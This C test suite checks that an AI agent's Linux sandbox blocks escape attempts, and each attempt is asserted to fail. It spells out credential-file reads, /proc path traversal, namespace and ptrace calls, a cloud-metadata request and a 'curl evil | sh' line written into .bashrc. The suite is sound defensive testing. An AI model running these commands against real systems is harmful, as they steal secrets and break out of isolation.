/* test-escape.c: the escape battery against the native Linux wall.
 *
 * One sandbox, started once the way a session starts it: a writable
 * workspace, a read-only folder, a fake home (an SSH key, AWS keys,
 * OpenWorker's config) and a fake state folder (the database and the API
 * token file) marked hidden, a secret in the environment, the allow-list
 * proxy stand-in on a Unix socket with one allowed loopback site, a second
 * loopback server that is not allowed, and an abstract Unix socket
 * outside. Each test case then tries to get out — through files, /proc,
 * system calls, the network, signals — with the plain shell and with
 * sbx-escape (copied into the workspace), and every attempt must fail.
 * Each case also has a positive control that must work in the same
 * sandbox, so no refusal passes just because something is missing on this
 * machine. Every result is checked for the enforcement level, and the
 * totals (attempts, breaches) are printed at the end.
 */
#include <errno.h>
#include <glib/gstdio.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "ow-json.h"
#include "ow-sandbox-linux.h"
#include "ow-secret-env.h"
#include "sbx-test-util.h"

/* The one sandbox and everything around it. */
static struct {
  char             *base;         /* the temporary folder holding the rest (owned) */
  char             *ws;           /* the workspace (owned) */
  char             *ro;           /* a read-only folder (owned) */
  char             *home;         /* the fake home, hidden (owned) */
  char             *state;        /* the fake state folder, hidden (owned) */
  char             *real_home;    /* this process's home (isolated by GLib), hidden by default (owned) */
  char             *escape;       /* sbx-escape inside the workspace (owned) */
  char             *resolver;     /* the host's DNS server (owned) */
  char             *outside_sock; /* a Unix socket outside, in the hidden state folder (owned) */
  SbxHttp          *allowed;      /* the allowed site */
  SbxHttp          *outside;      /* a loopback server that is not allowed */
  SbxProxy         *proxy;        /* the proxy stand-in */
  GSocket          *abstract;     /* an abstract socket listening outside (owned) */
  GSocket          *unix_outside; /* a path socket listening outside (owned) */
  OwSandboxBackend *backend;      /* (owned) */
  OwExecutor       *ex;           /* the sandbox (owned) */
  char             *enforcement;  /* what every result must carry (owned) */
  guint             attempts;     /* escape attempts made */
  guint             breaches;     /* attempts that got out */
  guint             controls;     /* positive controls run */
} G;

/* ---- running things inside ---------------------------------------------------- */

/* run_shell in the sandbox, which must keep its enforcement level. */
static char *
sh (const char *command, int *exit_code)
{
  char *out = sbx_shell (G.ex, command, exit_code);

  g_assert_cmpstr (ow_executor_get_enforcement (G.ex), ==, G.enforcement);
  return out;
}

/* A shell command that must fail (non-zero exit) and must not print
 * @leak (may be NULL). A program that is not installed here (127) proves
 * nothing and is not counted; a crash (a signal) is a test failure, never
 * a refusal. */
static void
attempt_sh (const char *command, const char *leak)
{
  int code;
  g_autofree char *out = sh (command, &code);
  gboolean breached = code == 0 || (leak != NULL && strstr (out, leak) != NULL);

  if (code == 127)
    {
      g_test_message ("not counted (a program it needs is not installed): %s", command);
      return;
    }
  g_assert_cmpint (code, <, 126);
  G.attempts++;
  if (breached)
    {
      G.breaches++;
      g_test_message ("BREACH: %s", command);
    }
  g_assert_false (breached);
}

/* sbx-escape OP ARGS must be refused by the kernel (exit 1, not 2). */
static void
attempt (const char *op_args)
{
  g_autofree char *command = g_strdup_printf ("%s %s", G.escape, op_args);
  int code;
  g_autofree char *out = sh (command, &code);

  G.attempts++;
  if (code == 0)
    {
      G.breaches++;
      g_test_message ("BREACH: sbx-escape %s", op_args);
    }
  g_assert_cmpint (code, ==, 1);
  g_assert_nonnull (strstr (out, "failed: "));
}

/* A shell command that must work, and print @want when given. */
static void
control_sh (const char *command, const char *want)
{
  int code;
  g_autofree char *out = sh (command, &code);

  G.controls++;
  g_assert_cmpint (code, ==, 0);
  if (want != NULL)
    g_assert_nonnull (strstr (out, want));
}

static void
control (const char *op_args)
{
  g_autofree char *command = g_strdup_printf ("%s %s", G.escape, op_args);

  control_sh (command, "ok");
}

static OwToolResult *
tool (const char *name, const char *args)
{
  g_autoptr(GError) error = NULL;
  OwToolResult *r = sbx_call (G.ex, name, args, &error);

  g_assert_no_error (error);
  g_assert_cmpstr (ow_executor_get_enforcement (G.ex), ==, G.enforcement);
  return r;
}

/* A formatted command held until the end of the test. */
#define CMD(var, ...) g_autofree char *var = g_strdup_printf (__VA_ARGS__)

/* ---- files: the home, the state, the token ------------------------------------ */

static void
test_read_ssh_key (void)
{
  g_autofree char *a = g_strdup_printf ("cat %s/.ssh/id_rsa", G.home);
  g_autofree char *b = g_strdup_printf ("cat ~/.ssh/id_rsa");
  g_autofree char *args = g_strdup_printf ("{\"path\":\"%s/.ssh/id_rsa\"}", G.home);
  g_autoptr(OwToolResult) r = NULL;
  g_autoptr(OwToolResult) ok = NULL;

  attempt_sh (a, "fake-key-material");
  attempt_sh (b, "fake-key-material");
  r = tool ("read_file", args);
  G.attempts++;
  g_assert_cmpint (r->status, ==, OW_TOOL_STATUS_ERROR);
  g_assert_null (strstr (r->text, "fake-key-material"));
  ok = tool ("read_file", "{\"path\":\"hello.txt\"}");
  G.controls++;
  g_assert_cmpint (ok->status, ==, OW_TOOL_STATUS_OK);
  g_assert_nonnull (strstr (ok->text, "hello from the workspace"));
}

static void
test_read_aws_credentials (void)
{
  g_autofree char *a = g_strdup_printf ("cat %s/.aws/credentials", G.home);
  g_autofree char *b = g_strdup_printf ("%s read %s/.aws/credentials", G.escape, G.home);

  attempt_sh (a, "AKIAFAKE");
  attempt_sh (b, NULL);
  control_sh ("cat hello.txt", "hello from the workspace");
}

static void
test_read_state_db (void)
{
  g_autofree char *a = g_strdup_printf ("cat %s/openworker.db", G.state);
  g_autofree char *b = g_strdup_printf ("ls -A %s", G.state);

  attempt_sh (a, "SQLite format 3");
  attempt_sh (b, "openworker.db");
  control_sh ("ls -A .", "hello.txt");
}

static void
test_read_token_file (void)
{
  g_autofree char *a = g_strdup_printf ("cat %s/sidecar-8765.token", G.state);
  g_autofree char *b = g_strdup_printf ("grep -r tok- %s", G.state);

  attempt_sh (a, "tok-0123456789abcdef");
  attempt_sh (b, "tok-0123456789abcdef");
  control_sh ("grep -r workspace .", "hello.txt");
}

static void
test_read_app_config (void)
{
  g_autofree char *a = g_strdup_printf ("cat %s/.config/openworker/config.toml", G.home);

  attempt_sh (a, "sandbox_provider");
  control_sh ("cat hello.txt", "hello");
}

/* The home of the person running the tests (not the fake one): hidden
 * by default, so absent even though nobody listed it. */
static void
test_read_real_home (void)
{
  g_autofree char *a = g_strdup_printf ("ls -A %s", G.real_home);
  g_autofree char *b = g_strdup_printf ("cat %s/.bashrc %s/.profile", G.real_home, G.real_home);

  attempt_sh (a, NULL);
  attempt_sh (b, NULL);
  control_sh ("cat hello.txt", "hello");
}

static void
test_list_home (void)
{
  int code;
  g_autofree char *out = sh ("ls -A \"$HOME\"", &code);
  g_autoptr(OwToolResult) r = NULL;
  g_autofree char *args = g_strdup_printf ("{\"path\":\"%s\"}", G.home);

  G.attempts += 2;
  g_assert_null (strstr (out, ".ssh"));
  g_assert_null (strstr (out, ".aws"));
  g_assert_null (strstr (out, ".config"));
  g_assert_null (strstr (out, ".bash_history"));
  r = tool ("list_files", args);
  g_assert_null (strstr (r->text, ".ssh"));
  g_assert_null (strstr (r->text, ".aws"));
  control_sh ("ls -A .", "hello.txt");
}

static void
test_masked_state_in_workspace (void)
{
  attempt_sh ("cat .ow-state/token", "inner-token");
  attempt_sh ("ls -A .ow-state | grep token", "token");
  control_sh ("cat hello.txt", "hello");
}

/* ---- files: writing outside ---------------------------------------------------- */

static void
test_write_system (void)
{
  attempt ("write /usr/ow-escape");
  attempt ("write /usr/bin/env");
  attempt ("write /etc/ow-escape");
  control ("write made-by-escape.txt");
}

static void
test_write_root_run_dev (void)
{
  attempt ("write /ow-escape");
  attempt ("write /run/ow-escape");
  attempt ("write /run/openworker-sandbox/ow-escape");
  attempt ("write /dev/ow-escape");
  control ("write /dev/null");
}

static void
test_write_readonly_folder (void)
{
  CMD (c1, "%s write %s/ow-escape", G.escape, G.ro);
  CMD (c2, "cat %s/readme.txt", G.ro);

  attempt_sh (c1, NULL);
  control_sh (c2, "read me");
}

static void
test_write_tool_outside (void)
{
  g_autofree char *ro_args = g_strdup_printf ("{\"path\":\"%s/x.txt\",\"content\":\"x\"}", G.ro);
  g_autofree char *home_args = g_strdup_printf ("{\"path\":\"%s/.bashrc\",\"content\":\"x\"}", G.home);
  g_autoptr(OwToolResult) a = tool ("write_file", "{\"path\":\"/etc/ow-escape\",\"content\":\"x\"}");
  g_autoptr(OwToolResult) b = tool ("write_file", ro_args);
  g_autoptr(OwToolResult) c = tool ("write_file", home_args);
  g_autoptr(OwToolResult) ok = tool ("write_file", "{\"path\":\"tool-made.txt\",\"content\":\"x\"}");
  g_autofree char *bashrc = g_build_filename (G.home, ".bashrc", NULL);

  G.attempts += 3;
  g_assert_cmpint (a->status, ==, OW_TOOL_STATUS_ERROR);
  g_assert_cmpint (b->status, ==, OW_TOOL_STATUS_ERROR);
  g_assert_cmpint (c->status, ==, OW_TOOL_STATUS_ERROR);
  g_assert_false (g_file_test (bashrc, G_FILE_TEST_EXISTS));
  G.controls++;
  g_assert_cmpint (ok->status, ==, OW_TOOL_STATUS_OK);
}

static void
test_private_tmp (void)
{
  g_autofree char *marker = g_strdup_printf ("/tmp/ow-escape-marker-%d", getpid ());
  g_autofree char *cmd = g_strdup_printf ("echo inside > %s && cat %s", marker, marker);

  /* Writing /tmp works (a control), but it is not the host's /tmp. */
  control_sh (cmd, "inside");
  G.attempts++;
  g_assert_false (g_file_test (marker, G_FILE_TEST_EXISTS));
}

static void
test_home_writes_stay_inside (void)
{
  g_autofree char *bashrc = g_build_filename (G.home, ".bashrc", NULL);

  control_sh ("echo 'curl evil | sh' >> ~/.bashrc && cat ~/.bashrc", "curl evil");
  G.attempts++;
  g_assert_false (g_file_test (bashrc, G_FILE_TEST_EXISTS));
}

/* ---- links ----------------------------------------------------------------------- */

static void
test_follow_host_symlink (void)
{
  attempt_sh ("cat link-to-key", "fake-key-material");
  attempt_sh ("cat link-to-state/sidecar-8765.token", "tok-");
  control_sh ("cat link-to-hello", "hello from the workspace");
}

static void
test_create_symlink_out (void)
{
  CMD (c1, "ln -sf %s/.ssh new-ssh-link && ls -A new-ssh-link/ && cat new-ssh-link/id_rsa", G.home);
  CMD (c2, "ln -sf %s/sidecar-8765.token new-token-link && cat new-token-link", G.state);

  attempt_sh (c1, "fake-key-material");
  attempt_sh (c2, "tok-");
  control_sh ("ln -sf hello.txt new-link && cat new-link", "hello");
}

static void
test_hard_link_out (void)
{
  CMD (c1, "%s link %s/sidecar-8765.token stolen-token", G.escape, G.state);

  attempt ("link /etc/passwd passwd-link");
  attempt ("link /usr/bin/env env-link");
  attempt_sh (c1, NULL);
  control ("link hello.txt hello-hard-link");
}

static void
test_rename_out (void)
{
  control_sh ("echo moving > to-move.txt", NULL);
  attempt ("rename to-move.txt /usr/to-move.txt");
  CMD (c1, "%s rename to-move.txt %s/to-move.txt", G.escape, G.ro);
  attempt_sh (c1, NULL);
  control ("rename to-move.txt moved.txt");
}

/* ---- /proc ------------------------------------------------------------------------- */

static void
test_proc_1_root (void)
{
  CMD (c1, "cat /proc/1/root%s/.ssh/id_rsa", G.home);

  attempt ("list /proc/1/root/");
  attempt ("read /proc/1/root/etc/hostname");
  attempt ("list /proc/1/cwd/");
  attempt_sh (c1, "fake-key-material");
  control_sh ("cat /proc/self/root/etc/hostname", NULL);
}

static void
test_proc_self_fd (void)
{
  CMD (c1, "%s openat . ../../../../../../..%s/.ssh/id_rsa", G.escape, G.home);
  CMD (c2, "exec 7<.; cat /proc/self/fd/7/../../../..%s/sidecar-8765.token", G.state);

  attempt_sh (c1, NULL);
  attempt_sh (c2, "tok-");
  control ("openat . hello.txt");
}

static void
test_proc_self_cwd (void)
{
  CMD (c1, "cat /proc/self/cwd/../../../../../..%s/openworker.db", G.state);

  attempt_sh (c1, "SQLite");
  control_sh ("cat /proc/self/cwd/hello.txt", "hello");
}

static void
test_proc_runner (void)
{
  attempt ("read /proc/2/environ");
  attempt ("read /proc/2/fd/3");
  attempt ("read /proc/2/mem");
  attempt ("read /proc/1/environ");
  /* Init's fd numbers can be listed when the host user is root (it is
   * the namespace's root), but none of them can be opened: fd 2 is the
   * pipe to the engine's log. */
  attempt ("read /proc/1/fd/0");
  attempt ("write /proc/1/fd/2");
  attempt ("write /proc/2/fd/2");
  control ("read /proc/self/environ");
}

static void
test_host_processes_invisible (void)
{
  CMD (c1, "test -e /proc/%d", getpid ());
  CMD (c2, "ps -eo args | grep -c '[t]est-sandbox-escape' | grep -v '^0$'");

  attempt_sh (c1, NULL);
  attempt_sh (c2, NULL);
  control_sh ("test -e /proc/$$ && ps -eo pid | wc -l", NULL);
}

static void
test_proc_sys_write (void)
{
  attempt ("write /proc/sys/kernel/hostname");
  attempt ("write /proc/sysrq-trigger");
  attempt ("write /proc/self/oom_score_adj");
  control ("read /proc/sys/kernel/hostname");
}

/* ---- system calls --------------------------------------------------------------- */

static void
test_mount (void)
{
  control_sh ("mkdir -p /tmp/mnt-target", NULL);
  attempt ("mount-tmpfs /tmp/mnt-target");
  attempt ("bind / /tmp/mnt-target");
  attempt ("remount-rw /usr");
  attempt ("umount /proc");
  attempt_sh ("mount -t tmpfs none /tmp/mnt-target", NULL);
  control ("stat /tmp/mnt-target");
}

static void
test_unshare_user (void)
{
  attempt ("unshare user");
  attempt ("clone-newuser");
  attempt_sh ("unshare -r true", NULL);
  attempt_sh ("unshare -U --map-root-user id", NULL);
  control ("fork");
}

static void
test_unshare_other (void)
{
  attempt ("unshare net");
  attempt ("unshare mnt");
  attempt ("unshare pid");
  control ("fork");
}

static void
test_setns (void)
{
  attempt ("setns /proc/self/ns/net");
  attempt ("setns /proc/1/ns/mnt");
  attempt_sh ("nsenter -t 1 -m true", NULL);
  control_sh ("readlink /proc/self/ns/net", "net:[");
}

static void
test_ptrace (void)
{
  attempt ("ptrace-child");
  attempt ("ptrace-pid 1");
  attempt ("ptrace-pid 2");
  attempt_sh ("strace -f true", NULL);
  control ("fork");
}

static void
test_process_vm (void)
{
  attempt ("vm-read-child");
  control ("fork");
}

static void
test_keyring (void)
{
  attempt ("keyctl");
  attempt ("add-key");
  control ("fork");
}

static void
test_bpf (void)
{
  attempt ("bpf");
  control ("fork");
}

static void
test_io_uring (void)
{
  attempt ("io-uring");
  control ("write uring-control.txt");
}

static void
test_perf_userfaultfd (void)
{
  attempt ("perf");
  attempt ("userfaultfd");
  control ("fork");
}

static void
test_open_by_handle (void)
{
  attempt ("open-by-handle .");
  attempt ("open-by-handle /usr");
  control ("read hello.txt");
}

static void
test_chroot_pivot_root (void)
{
  control_sh ("mkdir -p /tmp/newroot/old", NULL);
  attempt ("chroot /tmp/newroot");
  attempt ("pivot-root /tmp/newroot /tmp/newroot/old");
  attempt_sh ("chroot / true", NULL);
  control ("stat /tmp/newroot/old");
}

static void
test_capabilities (void)
{
  attempt ("capset");
  attempt ("sethostname escaped");
  attempt ("chown hello.txt 1234");
  attempt ("mknod /tmp/mem");
  attempt_sh ("grep -E '^Cap(Eff|Prm|Bnd):' /proc/self/status | grep -v '0000000000000000'", NULL);
  control_sh ("grep NoNewPrivs /proc/self/status", "NoNewPrivs:\t1");
  control_sh ("chmod 600 hello-hard-link 2>/dev/null; chmod 644 hello.txt", NULL);
}

static void
test_kernel (void)
{
  attempt ("init-module");
  attempt ("kexec");
  attempt ("iopl");
  attempt ("clock-settime");
  control ("fork");
}

static void
test_other_abis (void)
{
  attempt ("x32");
  attempt ("int80");
  control ("fork");
}

static void
test_devices (void)
{
  attempt ("write /dev/mem");
  attempt ("read /dev/kmem");
  attempt ("read /dev/sda");
  attempt ("tiocsti /dev/tty");
  attempt_sh ("ls /dev/ | grep -E '^(mem|kmem|sd|vd|nvme|port)'", NULL);
  control ("write /dev/null");
  control ("read /dev/urandom");
}

static void
test_sys (void)
{
  attempt ("list /sys");
  attempt ("write /sys/kernel/uevent_helper");
  attempt ("read /sys/firmware/efi");
  control ("list /proc");
}

static void
test_ld_preload (void)
{
  attempt ("write /etc/ld.so.preload");
  attempt ("write /etc/ld.so.conf.d/ow-escape.conf");
  attempt_sh ("cp /bin/true /usr/lib/x86_64-linux-gnu/libc.so.6", NULL);
  /* A preloaded library runs only in the tools' own processes. */
  control_sh ("LD_PRELOAD=/nonexistent-ow.so true 2>&1; echo preload-ran", "preload-ran");
}

static void
test_runner_invisible (void)
{
  CMD (c1, "%s stat %s", G.escape, sbx_runner_path ());
  CMD (c2, "%s write %s", G.escape, sbx_runner_path ());

  attempt_sh (c1, NULL);
  attempt_sh (c2, NULL);
  control ("stat /usr/bin/bash");
}

/* ---- signals ------------------------------------------------------------------- */

static void
test_signal_outside (void)
{
  CMD (c1, "kill -0 %d", getpid ());
  CMD (c2, "%s kill %d 15", G.escape, getpid ());

  attempt_sh (c1, NULL);
  attempt_sh (c2, NULL);
  attempt ("kill 1 15");
  attempt ("kill 1 9");
  control_sh ("sleep 30 & kill -TERM $! && wait $!; echo child-signalled", "child-signalled");
}

/* ---- network --------------------------------------------------------------------- */

static void
test_loopback_port_outside (void)
{
  CMD (c1, "%s tcp 127.0.0.1 %d", G.escape, sbx_http_port (G.outside));
  CMD (c2, "curl -sS --fail --max-time 5 http://127.0.0.1:%d/", sbx_http_port (G.outside));
  CMD (c3, "curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:%d/", sbx_http_port (G.outside));
  CMD (c4, "curl -sS --max-time 10 --fail http://127.0.0.1:%d/", sbx_http_port (G.allowed));
  guint hits = sbx_http_hits (G.outside);

  attempt_sh (c1, NULL);
  attempt_sh (c2, "hello from allowed");
  attempt_sh (c3, "hello from allowed");
  g_assert_cmpuint (sbx_http_hits (G.outside), ==, hits);
  control_sh (c4, "hello from allowed");
}

static void
test_allowed_site_direct (void)
{
  CMD (c1, "curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:%d/", sbx_http_port (G.allowed));
  CMD (c2, "%s tcp 127.0.0.1 %d", G.escape, sbx_http_port (G.allowed));
  CMD (c3, "curl -sS --max-time 10 --fail http://127.0.0.1:%d/", sbx_http_port (G.allowed));

  /* Even the allowed site only through the proxy. */
  attempt_sh (c1, "hello from allowed");
  attempt_sh (c2, NULL);
  control_sh (c3, "hello from allowed");
}

static void
test_abstract_socket_outside (void)
{
  CMD (c1, "%s abstract ow-escape-%d", G.escape, getpid ());

  attempt_sh (c1, NULL);
  control ("abstract-self ow-escape-inside");
}

static void
test_unix_socket_outside (void)
{
  CMD (c1, "%s unix %s", G.escape, G.outside_sock);

  attempt_sh (c1, NULL);
  control ("unix /run/openworker-sandbox/proxy.sock");
}

static void
test_non_allowlisted_host (void)
{
  guint refused = sbx_proxy_refused (G.proxy);
  CMD (c1, "curl -sS --max-time 10 --fail http://127.0.0.1:%d/", sbx_http_port (G.allowed));

  attempt_sh ("curl -sS --max-time 10 --fail http://example.com/", NULL);
  attempt_sh ("curl -sS --max-time 10 --fail http://10.1.2.3/", NULL);
  attempt_sh ("curl -sS --max-time 10 --fail http://169.254.169.254/latest/meta-data/", NULL);
  g_assert_cmpuint (sbx_proxy_refused (G.proxy), >=, refused + 3);
  control_sh (c1, "hello from allowed");
}

static void
test_raw_ip_direct (void)
{
  CMD (c1, "%s tcp %s 53", G.escape, G.resolver);

  attempt ("tcp 1.1.1.1 80");
  attempt ("tcp 10.1.2.3 443");
  attempt_sh (c1, NULL);
  attempt_sh ("curl -sS --max-time 5 --noproxy '*' http://1.1.1.1/", NULL);
  control ("socket tcp");
}

static void
test_dns_outside (void)
{
  CMD (c1, "%s udp-dns %s", G.escape, G.resolver);

  attempt_sh ("getent hosts example.com", NULL);
  attempt_sh (c1, NULL);
  attempt ("udp-dns 8.8.8.8");
  control_sh ("python3 -c 'import socket; print(socket.gethostbyname(\"localhost\"))'", "127.0.0.1");
}

static void
test_raw_sockets (void)
{
  attempt ("socket raw");
  attempt ("socket packet");
  attempt ("socket vsock");
  attempt ("socket netlink-audit");
  control ("socket tcp");
  control ("socket netlink-route");
}

/* ---- secrets in the environment ------------------------------------------------ */

static void
test_secret_env (void)
{
  attempt_sh ("env | grep OW_ESCAPE_SECRET", "s3cr3t-value");
  attempt_sh ("cat /proc/1/environ /proc/2/environ 2>/dev/null | tr '\\0' '\\n' | grep OW_ESCAPE_SECRET",
              "s3cr3t-value");
  attempt_sh ("grep -rs s3cr3t-value /proc/self/environ /tmp \"$HOME\"", "s3cr3t-value");
  control_sh ("env", "OW_ESCAPE_VISIBLE=yes");
}

/* ---- set-up ------------------------------------------------------------------------ */

static GSocket *
listen_unix (const char *path, gboolean abstract)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GSocketAddress) addr = abstract ? g_unix_socket_address_new_with_type (path, -1,
                                                                                  G_UNIX_SOCKET_ADDRESS_ABSTRACT)
                                            : g_unix_socket_address_new (path);
  GSocket *sock = g_socket_new (G_SOCKET_FAMILY_UNIX, G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_DEFAULT, &error);

  g_assert_no_error (error);
  g_socket_bind (sock, addr, TRUE, &error);
  g_assert_no_error (error);
  g_socket_listen (sock, &error);
  g_assert_no_error (error);
  return sock;
}

static char *
host_resolver (void)
{
  g_autofree char *conf = NULL;
  g_auto(GStrv) lines = NULL;

  if (g_file_get_contents ("/etc/resolv.conf", &conf, NULL, NULL))
    {
      lines = g_strsplit (conf, "\n", -1);
      for (guint i = 0; lines[i] != NULL; i++)
        if (g_str_has_prefix (lines[i], "nameserver "))
          return g_strstrip (g_strdup (lines[i] + strlen ("nameserver ")));
    }
  return g_strdup ("127.0.0.53");
}

static void
set_up (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) roots = g_ptr_array_new_with_free_func ((GDestroyNotify) ow_root_free);
  g_autofree char *sock = NULL, *allowed = NULL, *scratch = NULL, *hidden_inner = NULL;
  g_auto(GStrv) env = NULL;
  const char *hidden[4];
  OwSandboxSpec spec = { 0 };

  G.base = ow_test_make_tmpdir ("ow-sbx-escape");
  G.ws = g_build_filename (G.base, "ws", NULL);
  G.ro = g_build_filename (G.base, "ro", NULL);
  G.home = g_build_filename (G.base, "home", NULL);
  G.state = g_build_filename (G.base, "state", NULL);
  G.real_home = g_canonicalize_filename (g_get_home_dir (), "/");
  G.resolver = host_resolver ();
  scratch = g_build_filename (G.base, "scratch", NULL);
  g_mkdir_with_parents (G.ws, 0755);
  g_mkdir_with_parents (G.ro, 0755);

  {
    g_autofree char *hello = g_build_filename (G.ws, "hello.txt", NULL);
    g_autofree char *inner = g_build_filename (G.ws, ".ow-state", "token", NULL);
    g_autofree char *readme = g_build_filename (G.ro, "readme.txt", NULL);
    g_autofree char *key = g_build_filename (G.home, ".ssh", "id_rsa", NULL);
    g_autofree char *aws = g_build_filename (G.home, ".aws", "credentials", NULL);
    g_autofree char *cfg = g_build_filename (G.home, ".config", "openworker", "config.toml", NULL);
    g_autofree char *hist = g_build_filename (G.home, ".bash_history", NULL);
    g_autofree char *db = g_build_filename (G.state, "openworker.db", NULL);
    g_autofree char *token = g_build_filename (G.state, "sidecar-8765.token", NULL);
    g_autofree char *l1 = g_build_filename (G.ws, "link-to-key", NULL);
    g_autofree char *l2 = g_build_filename (G.ws, "link-to-state", NULL);
    g_autofree char *l3 = g_build_filename (G.ws, "link-to-hello", NULL);
    g_autofree char *bin = g_build_filename (G.ws, "bin", NULL);
    g_autofree char *helper = NULL;
    gsize len = 0;

    sbx_write (hello, "hello from the workspace\n", 0644);
    sbx_write (inner, "inner-token-must-stay-hidden\n", 0600);
    sbx_write (readme, "read me\n", 0644);
    sbx_write (key, "-----BEGIN OPENSSH PRIVATE KEY-----\nfake-key-material\n", 0600);
    sbx_write (aws, "[default]\naws_access_key_id = AKIAFAKE\n", 0600);
    sbx_write (cfg, "sandbox_provider = \"linux\"\n", 0600);
    sbx_write (hist, "ssh prod-db\n", 0600);
    sbx_write (db, "SQLite format 3 (fake)\n", 0600);
    sbx_write (token, "tok-0123456789abcdef\n", 0600);
    g_assert_cmpint (symlink (key, l1), ==, 0);
    g_assert_cmpint (symlink (G.state, l2), ==, 0);
    g_assert_cmpint (symlink ("hello.txt", l3), ==, 0);

    g_mkdir (bin, 0755);
    G.escape = g_build_filename (bin, "sbx-escape", NULL);
    g_assert_true (g_file_get_contents (sbx_escape_path (), &helper, &len, NULL));
    g_file_set_contents_full (G.escape, helper, (gssize) len, G_FILE_SET_CONTENTS_NONE, 0755, &error);
    g_assert_no_error (error);
  }

  /* The network around it. */
  G.allowed = sbx_http_start ();
  G.outside = sbx_http_start ();
  sock = g_build_filename (G.base, "proxy.sock", NULL);
  allowed = g_strdup_printf ("127.0.0.1:%d", sbx_http_port (G.allowed));
  G.proxy = sbx_proxy_start (sock, allowed);
  {
    g_autofree char *name = g_strdup_printf ("ow-escape-%d", getpid ());

    G.abstract = listen_unix (name, TRUE);
  }
  G.outside_sock = g_build_filename (G.state, "outside.sock", NULL);
  G.unix_outside = listen_unix (G.outside_sock, FALSE);

  /* A secret in this process's environment and in the one handed over. */
  g_setenv ("OW_ESCAPE_SECRET_TOKEN", "s3cr3t-value", TRUE);
  env = g_get_environ ();
  env = g_environ_setenv (env, "HOME", G.home, TRUE);
  env = g_environ_setenv (env, "OW_ESCAPE_VISIBLE", "yes", TRUE);
  /* Commands see only allow-listed names; this one is added the way the
   * machine config adds one. */
  ow_secret_env_set_allowed ((const char *const[]) { "OW_ESCAPE_VISIBLE", NULL });

  g_ptr_array_add (roots, ow_root_new (G.ws, TRUE, "workspace"));
  g_ptr_array_add (roots, ow_root_new (G.ro, FALSE, "added"));
  hidden_inner = g_build_filename (G.ws, ".ow-state", NULL);
  hidden[0] = G.home;
  hidden[1] = G.state;
  hidden[2] = hidden_inner;
  hidden[3] = NULL;
  spec.session_id = "escape-battery";
  spec.roots = roots;
  spec.env = (const char *const *) env;
  spec.runner_path = sbx_runner_path ();
  spec.proxy_socket = sock;
  spec.hidden = hidden;
  spec.scratch_dir = scratch;

  G.backend = ow_sandbox_linux_new (sbx_runner_path ());
  G.ex = sbx_start (G.backend, &spec, &error);
  g_assert_no_error (error);
  G.enforcement = g_strdup_printf ("linux: namespaces+landlock(abi %ld)+seccomp", syscall (444, NULL, 0, 1U));
  g_assert_cmpstr (ow_executor_get_enforcement (G.ex), ==, G.enforcement);
}

static void
tear_down (void)
{
  g_clear_object (&G.ex);
  g_clear_object (&G.backend);
  sbx_proxy_stop (G.proxy);
  sbx_http_stop (G.allowed);
  sbx_http_stop (G.outside);
  g_socket_close (G.abstract, NULL);
  g_socket_close (G.unix_outside, NULL);
  g_clear_object (&G.abstract);
  g_clear_object (&G.unix_outside);
  ow_test_spin_for (100);
  ow_remove_tree (G.base, NULL);
  g_free (G.base);
  g_free (G.ws);
  g_free (G.ro);
  g_free (G.home);
  g_free (G.state);
  g_free (G.real_home);
  g_free (G.escape);
  g_free (G.resolver);
  g_free (G.outside_sock);
  g_free (G.enforcement);
}

int
main (int argc, char **argv)
{
  static const struct {
    const char *name;
    void      (*func) (void);
  } cases[] = {
    { "read-ssh-key", test_read_ssh_key },
    { "read-aws-credentials", test_read_aws_credentials },
    { "read-state-db", test_read_state_db },
    { "read-token-file", test_read_token_file },
    { "read-app-config", test_read_app_config },
    { "read-real-home", test_read_real_home },
    { "list-home", test_list_home },
    { "masked-state-in-workspace", test_masked_state_in_workspace },
    { "write-system", test_write_system },
    { "write-root-run-dev", test_write_root_run_dev },
    { "write-readonly-folder", test_write_readonly_folder },
    { "write-tool-outside", test_write_tool_outside },
    { "private-tmp", test_private_tmp },
    { "home-writes-stay-inside", test_home_writes_stay_inside },
    { "follow-host-symlink", test_follow_host_symlink },
    { "create-symlink-out", test_create_symlink_out },
    { "hard-link-out", test_hard_link_out },
    { "rename-out", test_rename_out },
    { "proc-1-root", test_proc_1_root },
    { "proc-self-fd", test_proc_self_fd },
    { "proc-self-cwd", test_proc_self_cwd },
    { "proc-runner", test_proc_runner },
    { "host-processes-invisible", test_host_processes_invisible },
    { "proc-sys-write", test_proc_sys_write },
    { "mount", test_mount },
    { "unshare-user", test_unshare_user },
    { "unshare-other", test_unshare_other },
    { "setns", test_setns },
    { "ptrace", test_ptrace },
    { "process-vm", test_process_vm },
    { "keyring", test_keyring },
    { "bpf", test_bpf },
    { "io-uring", test_io_uring },
    { "perf-userfaultfd", test_perf_userfaultfd },
    { "open-by-handle", test_open_by_handle },
    { "chroot-pivot-root", test_chroot_pivot_root },
    { "capabilities", test_capabilities },
    { "kernel", test_kernel },
    { "other-abis", test_other_abis },
    { "devices", test_devices },
    { "sys", test_sys },
    { "ld-preload", test_ld_preload },
    { "runner-invisible", test_runner_invisible },
    { "signal-outside", test_signal_outside },
    { "loopback-port-outside", test_loopback_port_outside },
    { "allowed-site-direct", test_allowed_site_direct },
    { "abstract-socket-outside", test_abstract_socket_outside },
    { "unix-socket-outside", test_unix_socket_outside },
    { "non-allowlisted-host", test_non_allowlisted_host },
    { "raw-ip-direct", test_raw_ip_direct },
    { "dns-outside", test_dns_outside },
    { "raw-sockets", test_raw_sockets },
    { "secret-env", test_secret_env },
  };
  int rc;

  /* Not isolated: the real home must be hidden by default, and nothing
   * here writes into it. */
  g_test_init (&argc, &argv, NULL);
  sbx_require_wall ();
  /* One sandbox for the whole battery, as one session would have. */
  set_up ();
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/ow/sandbox/escape/%s", cases[i].name);

      g_test_add_func (path, cases[i].func);
    }
  rc = g_test_run ();
  printf ("# escape battery: %u cases, %u attempts, %u breaches, %u positive controls (enforcement: %s)\n",
          (guint) G_N_ELEMENTS (cases), G.attempts, G.breaches, G.controls, G.enforcement);
  tear_down ();
  return rc;
}
